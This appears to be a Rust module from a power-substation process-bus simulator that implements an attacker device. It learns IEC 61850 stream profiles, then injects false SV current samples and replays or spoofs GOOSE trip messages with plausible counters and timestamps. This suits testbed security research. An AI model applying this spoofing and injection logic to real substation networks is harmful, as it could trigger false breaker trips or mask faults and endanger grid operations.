//! Adversary with process-bus access. Everything it sends is built from
//! `StreamProfile`s learned from observed frames.

use std::collections::BTreeMap;
use std::f64::consts::PI;
use std::fmt;

use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::bus::{Ctx, Delivery, Device, DeviceFault, SimTime};
use crate::codec::{
    self, Frame, GooseFrame, MacAddress, SvFrame, SvSample, UtcTimestamp, VlanTag, SMP_CNT_MODULUS,
};
use crate::devices::{
    current_to_wire, tag_kind, tag_payload, timer_tag, voltage_from_wire, voltage_to_wire, World,
};
use crate::events::{AttackKind, LogEvent};

/// Fastest rate an injected SV stream may run at: one frame per nominal
/// sample period at 4800 samples/s, rounded up.
pub const MIN_INTER_PACKET_NS: u64 = 208_334;

#[derive(Debug, Error, PartialEq)]
pub enum AttackError {
    #[error("no observed {kind} stream with id {id:?}")]
    ProfileMissing { kind: StreamKind, id: String },
    #[error("replay source is not a GOOSE frame: {0}")]
    NotGoose(String),
    #[error("replay source for goId {0:?} was never observed")]
    ReplaySourceMissing(String),
    #[error("{field}: {reason}")]
    InvalidSpec { field: &'static str, reason: String },
    #[error(transparent)]
    Codec(#[from] codec::CodecError),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub enum StreamKind {
    Sv,
    Goose,
}

impl fmt::Display for StreamKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            StreamKind::Sv => "SV",
            StreamKind::Goose => "GOOSE",
        })
    }
}

/// What the attacker knows about one stream.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct StreamProfile {
    pub kind: StreamKind,
    pub id: String,
    pub dst: MacAddress,
    pub src: MacAddress,
    pub vlan: Option<VlanTag>,
    pub app_id: u16,
    pub conf_rev: u32,
    pub frames: u64,
    pub first_seen: SimTime,
    pub last_seen: SimTime,
    // SV
    pub last_smp_cnt: Option<u16>,
    /// Largest |value| seen per channel, in wire units.
    pub channel_peaks: Option<[i32; 8]>,
    // GOOSE
    pub gocb_ref: Option<String>,
    pub dat_set: Option<String>,
    pub time_allowed_to_live: Option<u32>,
    pub st_num: Option<u32>,
    pub sq_num: Option<u32>,
    pub t: Option<UtcTimestamp>,
    pub all_data: Option<Vec<bool>>,
    /// When the frame that opened the current stNum was seen.
    pub state_seen_at: Option<SimTime>,
}

impl StreamProfile {
    fn from_sv(f: &SvFrame, at: SimTime) -> Self {
        StreamProfile {
            kind: StreamKind::Sv,
            id: f.sv_id.clone(),
            dst: f.dst,
            src: f.src,
            vlan: f.vlan,
            app_id: f.app_id,
            conf_rev: f.conf_rev,
            frames: 0,
            first_seen: at,
            last_seen: at,
            last_smp_cnt: None,
            channel_peaks: Some([0; 8]),
            gocb_ref: None,
            dat_set: None,
            time_allowed_to_live: None,
            st_num: None,
            sq_num: None,
            t: None,
            all_data: None,
            state_seen_at: None,
        }
    }

    fn from_goose(f: &GooseFrame, at: SimTime) -> Self {
        StreamProfile {
            kind: StreamKind::Goose,
            id: f.go_id.clone(),
            dst: f.dst,
            src: f.src,
            vlan: f.vlan,
            app_id: f.app_id,
            conf_rev: f.conf_rev,
            frames: 0,
            first_seen: at,
            last_seen: at,
            last_smp_cnt: None,
            channel_peaks: None,
            gocb_ref: Some(f.gocb_ref.clone()),
            dat_set: Some(f.dat_set.clone()),
            time_allowed_to_live: Some(f.time_allowed_to_live),
            st_num: None,
            sq_num: None,
            t: None,
            all_data: None,
            state_seen_at: Some(at),
        }
    }

    /// Mean observed inter-arrival time.
    pub fn mean_interval_ns(&self) -> Option<f64> {
        (self.frames > 1)
            .then(|| (self.last_seen - self.first_seen) as f64 / (self.frames - 1) as f64)
    }

    /// Estimated station clock at simulation time `now`, anchored on the
    /// timestamp of the current GOOSE state.
    pub fn station_clock_ns(&self, now: SimTime) -> Option<u64> {
        let t = self.t?.as_nanos();
        let seen = self.state_seen_at?;
        Some(t + (now - seen))
    }
}

/// Profiles learned from a sequence of frames.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct LearnedStreams {
    pub profiles: Vec<StreamProfile>,
    pub skipped: u64,
}

impl LearnedStreams {
    pub fn get(&self, kind: StreamKind, id: &str) -> Option<&StreamProfile> {
        self.profiles.iter().find(|p| p.kind == kind && p.id == id)
    }
}

/// Incremental learner shared by offline analysis and the live attacker.
#[derive(Debug, Clone, Default)]
pub struct StreamLearner {
    profiles: BTreeMap<(StreamKind, String), StreamProfile>,
    skipped: u64,
}

impl StreamLearner {
    pub fn observe(&mut self, bytes: &[u8], at: SimTime) -> Option<Frame> {
        let frame = match codec::decode_any(bytes) {
            Ok(Some(f)) => f,
            Ok(None) => return None,
            Err(_) => {
                self.skipped += 1;
                return None;
            }
        };
        match &frame {
            Frame::Sv(f) => {
                let p = self
                    .profiles
                    .entry((StreamKind::Sv, f.sv_id.clone()))
                    .or_insert_with(|| StreamProfile::from_sv(f, at));
                p.frames += 1;
                p.last_seen = at;
                p.last_smp_cnt = Some(f.smp_cnt);
                if let Some(peaks) = p.channel_peaks.as_mut() {
                    for (k, s) in f.samples.iter().enumerate() {
                        peaks[k] = peaks[k].max(s.value.saturating_abs());
                    }
                }
            }
            Frame::Goose(f) => {
                let p = self
                    .profiles
                    .entry((StreamKind::Goose, f.go_id.clone()))
                    .or_insert_with(|| StreamProfile::from_goose(f, at));
                p.frames += 1;
                p.last_seen = at;
                if p.st_num != Some(f.st_num) {
                    p.state_seen_at = Some(at);
                }
                p.st_num = Some(f.st_num);
                p.sq_num = Some(f.sq_num);
                p.t = Some(f.t);
                p.all_data = Some(f.all_data.clone());
            }
        }
        Some(frame)
    }

    pub fn get(&self, kind: StreamKind, id: &str) -> Option<&StreamProfile> {
        self.profiles.get(&(kind, id.to_string()))
    }

    pub fn finish(self) -> LearnedStreams {
        LearnedStreams {
            profiles: self.profiles.into_values().collect(),
            skipped: self.skipped,
        }
    }
}

/// Builds one profile per distinct svId/goId from `(time, frame)` pairs.
pub fn learn_streams<'a, I>(frames: I) -> LearnedStreams
where
    I: IntoIterator<Item = (SimTime, &'a [u8])>,
{
    let mut l = StreamLearner::default();
    for (at, bytes) in frames {
        l.observe(bytes, at);
    }
    l.finish()
}

fn default_inter_packet_ns() -> u64 {
    250_000
}

fn default_true() -> bool {
    true
}

/// Where a replayed frame comes from.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub enum ReplaySource {
    /// Raw frame bytes, hex encoded.
    Hex(String),
    /// The first frame of `goId` observed live whose `allData[0]` equals
    /// `trip`.
    #[serde(rename_all = "camelCase")]
    FirstObserved { go_id: String, trip: bool },
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(
    tag = "type",
    rename_all = "camelCase",
    rename_all_fields = "camelCase",
    deny_unknown_fields
)]
pub enum AttackSpec {
    SvFdi {
        target_sv_id: String,
        injected_peak_a: f64,
        #[serde(default = "default_inter_packet_ns")]
        inter_packet_ns: u64,
        start_at_ns: SimTime,
        duration_ns: u64,
    },
    GooseReplay {
        source: ReplaySource,
        inject_at_ns: SimTime,
    },
    GooseSpoof {
        target_go_id: String,
        all_data: Vec<bool>,
        #[serde(default = "default_true")]
        conformant: bool,
        inject_at_ns: SimTime,
    },
}

impl AttackSpec {
    pub fn kind(&self) -> AttackKind {
        match self {
            AttackSpec::SvFdi { .. } => AttackKind::SvFdi,
            AttackSpec::GooseReplay { .. } => AttackKind::GooseReplay,
            AttackSpec::GooseSpoof { .. } => AttackKind::GooseSpoof,
        }
    }

    pub fn start_at(&self) -> SimTime {
        match self {
            AttackSpec::SvFdi { start_at_ns, .. } => *start_at_ns,
            AttackSpec::GooseReplay { inject_at_ns, .. }
            | AttackSpec::GooseSpoof { inject_at_ns, .. } => *inject_at_ns,
        }
    }

    pub fn validate(&self) -> Result<(), AttackError> {
        match self {
            AttackSpec::SvFdi {
                injected_peak_a,
                inter_packet_ns,
                ..
            } => {
                if *inter_packet_ns < MIN_INTER_PACKET_NS {
                    return Err(AttackError::InvalidSpec {
                        field: "interPacketNs",
                        reason: format!(
                            "{inter_packet_ns} would exceed the nominal 4800 frames/s (minimum {MIN_INTER_PACKET_NS})"
                        ),
                    });
                }
                if !injected_peak_a.is_finite() || *injected_peak_a < 0.0 {
                    return Err(AttackError::InvalidSpec {
                        field: "injectedPeakA",
                        reason: "must be finite and non-negative".into(),
                    });
                }
            }
            AttackSpec::GooseReplay { source, .. } => {
                if let ReplaySource::Hex(h) = source {
                    let bytes = hex::decode(h).map_err(|e| AttackError::InvalidSpec {
                        field: "source.hex",
                        reason: e.to_string(),
                    })?;
                    codec::decode_goose(&bytes)
                        .map_err(|e| AttackError::NotGoose(e.to_string()))?;
                }
            }
            AttackSpec::GooseSpoof { all_data, .. } => {
                if all_data.is_empty() {
                    return Err(AttackError::InvalidSpec {
                        field: "allData",
                        reason: "must hold at least one value".into(),
                    });
                }
            }
        }
        Ok(())
    }
}

/// Standard three-phase displacement the attacker assumes.
const PHASES: [f64; 3] = [0.0, -2.0 * PI / 3.0, 2.0 * PI / 3.0];

/// One malicious SV frame: the profile's identity with samples from the
/// sinusoid `peak · sin(2π f n / Fs + φ)` at `n = smp_cnt`. Voltages reuse
/// the observed per-channel peaks.
pub fn synthesize_sv(
    profile: &StreamProfile,
    smp_cnt: u16,
    injected_peak_a: f64,
    frequency_hz: f64,
    sampling_rate: f64,
) -> Result<SvFrame, AttackError> {
    if profile.kind != StreamKind::Sv {
        return Err(AttackError::ProfileMissing {
            kind: StreamKind::Sv,
            id: profile.id.clone(),
        });
    }
    let peaks = profile.channel_peaks.unwrap_or([0; 8]);
    let n = smp_cnt as f64;
    let mut samples = [SvSample::default(); 8];
    let mut i_sum = 0.0;
    let mut v_sum = 0.0;
    for p in 0..3 {
        let angle = 2.0 * PI * frequency_hz * n / sampling_rate + PHASES[p];
        let i = injected_peak_a * angle.sin();
        let v = voltage_from_wire(peaks[4 + p]) * angle.sin();
        samples[p].value = current_to_wire(i);
        samples[4 + p].value = voltage_to_wire(v);
        i_sum += i;
        v_sum += v;
    }
    samples[3].value = current_to_wire(i_sum);
    samples[7].value = voltage_to_wire(v_sum);
    Ok(SvFrame {
        dst: profile.dst,
        src: profile.src,
        vlan: profile.vlan,
        app_id: profile.app_id,
        sv_id: profile.id.clone(),
        smp_cnt: smp_cnt % SMP_CNT_MODULUS,
        conf_rev: profile.conf_rev,
        smp_synch: 2,
        samples,
    })
}

/// A GOOSE frame impersonating `profile`. Conformant spoofs open a new state
/// (stNum + 1, sqNum 0, timestamp `t_fresh`); otherwise the observed
/// counters and timestamp are reused.
pub fn synthesize_spoof(
    profile: &StreamProfile,
    all_data: Vec<bool>,
    conformant: bool,
    t_fresh: UtcTimestamp,
) -> Result<GooseFrame, AttackError> {
    let missing = || AttackError::ProfileMissing {
        kind: StreamKind::Goose,
        id: profile.id.clone(),
    };
    if profile.kind != StreamKind::Goose {
        return Err(missing());
    }
    let st = profile.st_num.ok_or_else(missing)?;
    let sq = profile.sq_num.ok_or_else(missing)?;
    let t = profile.t.ok_or_else(missing)?;
    let (st_num, sq_num, t) = if conformant {
        (st.wrapping_add(1).max(1), 0, t_fresh)
    } else {
        (st, sq, t)
    };
    Ok(GooseFrame {
        dst: profile.dst,
        src: profile.src,
        vlan: profile.vlan,
        app_id: profile.app_id,
        gocb_ref: profile.gocb_ref.clone().unwrap_or_default(),
        time_allowed_to_live: profile.time_allowed_to_live.unwrap_or(2000),
        dat_set: profile.dat_set.clone().unwrap_or_default(),
        go_id: profile.id.clone(),
        t,
        st_num,
        sq_num,
        simulation: false,
        conf_rev: profile.conf_rev,
        nds_com: false,
        all_data,
    })
}

/// Offline FDI: `count` frames continuing from the profile's last smpCnt,
/// as (offset from the last observed frame in ns, bytes).
pub fn craft_sv_fdi(
    profile: &StreamProfile,
    injected_peak_a: f64,
    inter_packet_ns: u64,
    count: usize,
    frequency_hz: f64,
    sampling_rate: f64,
) -> Result<Vec<(u64, Vec<u8>)>, AttackError> {
    if inter_packet_ns < MIN_INTER_PACKET_NS {
        return Err(AttackError::InvalidSpec {
            field: "interPacketNs",
            reason: format!("must be at least {MIN_INTER_PACKET_NS}"),
        });
    }
    let s0 = profile.last_smp_cnt.ok_or(AttackError::ProfileMissing {
        kind: StreamKind::Sv,
        id: profile.id.clone(),
    })?;
    (0..count)
        .map(|j| {
            let cnt = ((s0 as u64 + 1 + j as u64) % SMP_CNT_MODULUS as u64) as u16;
            let f = synthesize_sv(profile, cnt, injected_peak_a, frequency_hz, sampling_rate)?;
            Ok(((j as u64 + 1) * inter_packet_ns, codec::encode_sv(&f)?))
        })
        .collect()
}

/// Frames an attack put on the bus.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct InjectionRecord {
    pub label: String,
    pub kind: AttackKind,
    pub started_at: Option<SimTime>,
    pub publish_seqs: Vec<u64>,
}

const TAG_START: u8 = 1;
const TAG_FDI: u8 = 2;

#[derive(Debug, Clone)]
struct FdiRun {
    next_cnt: u16,
    ends_at: SimTime,
}

/// Live attacker on the bus: learns every stream it hears and executes its
/// attack specs at their scheduled times.
pub struct AttackerDevice {
    name: String,
    specs: Vec<AttackSpec>,
    learner: StreamLearner,
    captured: BTreeMap<usize, Vec<u8>>,
    fdi: BTreeMap<usize, FdiRun>,
    pub injections: Vec<InjectionRecord>,
}

impl AttackerDevice {
    pub fn new(name: impl Into<String>, specs: Vec<(String, AttackSpec)>) -> Self {
        let injections = specs
            .iter()
            .map(|(label, s)| InjectionRecord {
                label: label.clone(),
                kind: s.kind(),
                started_at: None,
                publish_seqs: Vec::new(),
            })
            .collect();
        AttackerDevice {
            name: name.into(),
            specs: specs.into_iter().map(|(_, s)| s).collect(),
            learner: StreamLearner::default(),
            captured: BTreeMap::new(),
            fdi: BTreeMap::new(),
            injections,
        }
    }

    pub fn learned(&self) -> LearnedStreams {
        self.learner.clone().finish()
    }

    fn inject(
        &mut self,
        ctx: &mut Ctx<'_, World>,
        i: usize,
        bytes: &[u8],
    ) -> Result<(), DeviceFault> {
        let seq = ctx.publish(bytes)?;
        let rec = &mut self.injections[i];
        if rec.started_at.is_none() {
            rec.started_at = Some(ctx.now());
            ctx.log(LogEvent::AttackStarted {
                label: rec.label.clone(),
                attack: rec.kind,
            });
        }
        self.injections[i].publish_seqs.push(seq);
        Ok(())
    }

    fn start_attack(&mut self, ctx: &mut Ctx<'_, World>, i: usize) -> Result<(), DeviceFault> {
        let now = ctx.now();
        let fault = |e: AttackError| DeviceFault::new(format!("{}: {e}", self.injections[i].label));
        match self.specs[i].clone() {
            AttackSpec::SvFdi {
                target_sv_id,
                duration_ns,
                ..
            } => {
                let p = self
                    .learner
                    .get(StreamKind::Sv, &target_sv_id)
                    .ok_or_else(|| {
                        fault(AttackError::ProfileMissing {
                            kind: StreamKind::Sv,
                            id: target_sv_id.clone(),
                        })
                    })?;
                let s0 = p.last_smp_cnt.unwrap_or(0);
                let t0 = p.last_seen;
                let period = p
                    .mean_interval_ns()
                    .unwrap_or(1e9 / ctx.world.plant.feeder.sampling_rate as f64);
                // Line up with the genuine stream: the first injected counter
                // is the one the merging unit is about to send.
                let mut k = 1u64;
                let mut first = t0 + (k as f64 * period).round() as u64;
                while first < now {
                    k += 1;
                    first = t0 + (k as f64 * period).round() as u64;
                }
                let next_cnt = ((s0 as u64 + k) % SMP_CNT_MODULUS as u64) as u16;
                self.fdi.insert(
                    i,
                    FdiRun {
                        next_cnt,
                        ends_at: first + duration_ns,
                    },
                );
                ctx.set_timer(first, timer_tag(TAG_FDI, i as u64))?;
            }
            AttackSpec::GooseReplay { source, .. } => {
                let bytes = match &source {
                    ReplaySource::Hex(h) => hex::decode(h).map_err(|e| {
                        fault(AttackError::InvalidSpec {
                            field: "source.hex",
                            reason: e.to_string(),
                        })
                    })?,
                    ReplaySource::FirstObserved { go_id, .. } => self
                        .captured
                        .get(&i)
                        .cloned()
                        .ok_or_else(|| fault(AttackError::ReplaySourceMissing(go_id.clone())))?,
                };
                codec::decode_goose(&bytes)
                    .map_err(|e| fault(AttackError::NotGoose(e.to_string())))?;
                self.inject(ctx, i, &bytes)?;
            }
            AttackSpec::GooseSpoof {
                target_go_id,
                all_data,
                conformant,
                ..
            } => {
                let p = self
                    .learner
                    .get(StreamKind::Goose, &target_go_id)
                    .ok_or_else(|| {
                        fault(AttackError::ProfileMissing {
                            kind: StreamKind::Goose,
                            id: target_go_id.clone(),
                        })
                    })?;
                let clock = p.station_clock_ns(now).unwrap_or(0);
                let t_fresh = UtcTimestamp::from_nanos(0, clock);
                let frame = synthesize_spoof(p, all_data, conformant, t_fresh).map_err(fault)?;
                let bytes = codec::encode_goose(&frame)?;
                self.inject(ctx, i, &bytes)?;
            }
        }
        Ok(())
    }

    fn fdi_tick(&mut self, ctx: &mut Ctx<'_, World>, i: usize) -> Result<(), DeviceFault> {
        let Some(run) = self.fdi.get(&i).cloned() else {
            return Ok(());
        };
        if ctx.now() >= run.ends_at {
            self.fdi.remove(&i);
            return Ok(());
        }
        let AttackSpec::SvFdi {
            target_sv_id,
            injected_peak_a,
            inter_packet_ns,
            ..
        } = &self.specs[i]
        else {
            return Ok(());
        };
        let p = self
            .learner
            .get(StreamKind::Sv, target_sv_id)
            .ok_or_else(|| DeviceFault::new(format!("profile for {target_sv_id} lost")))?;
        let feeder = &ctx.world.plant.feeder;
        let frame = synthesize_sv(
            p,
            run.next_cnt,
            *injected_peak_a,
            feeder.frequency_hz as f64,
            feeder.sampling_rate as f64,
        )
        .map_err(|e| DeviceFault::new(e.to_string()))?;
        let next_at = ctx.now() + *inter_packet_ns;
        let bytes = codec::encode_sv(&frame)?;
        self.inject(ctx, i, &bytes)?;
        if let Some(r) = self.fdi.get_mut(&i) {
            r.next_cnt = (run.next_cnt + 1) % SMP_CNT_MODULUS;
        }
        ctx.set_timer(next_at, timer_tag(TAG_FDI, i as u64))?;
        Ok(())
    }
}

impl Device<World> for AttackerDevice {
    fn name(&self) -> &str {
        &self.name
    }

    fn start(&mut self, ctx: &mut Ctx<'_, World>) -> Result<(), DeviceFault> {
        for (i, s) in self.specs.iter().enumerate() {
            s.validate().map_err(|e| DeviceFault::new(e.to_string()))?;
            ctx.set_timer(s.start_at(), timer_tag(TAG_START, i as u64))?;
        }
        Ok(())
    }

    fn on_frame(&mut self, _ctx: &mut Ctx<'_, World>, d: &Delivery) -> Result<(), DeviceFault> {
        let Some(Frame::Goose(g)) = self.learner.observe(&d.bytes, d.deliver_at) else {
            return Ok(());
        };
        for (i, s) in self.specs.iter().enumerate() {
            if let AttackSpec::GooseReplay {
                source: ReplaySource::FirstObserved { go_id, trip },
                ..
            } = s
            {
                if !self.captured.contains_key(&i)
                    && &g.go_id == go_id
                    && g.all_data.first() == Some(trip)
                {
                    self.captured.insert(i, d.bytes.to_vec());
                }
            }
        }
        Ok(())
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_, World>, tag: u64) -> Result<(), DeviceFault> {
        let i = tag_payload(tag) as usize;
        match tag_kind(tag) {
            TAG_START => self.start_attack(ctx, i),
            TAG_FDI => self.fdi_tick(ctx, i),
            _ => Ok(()),
        }
    }
}
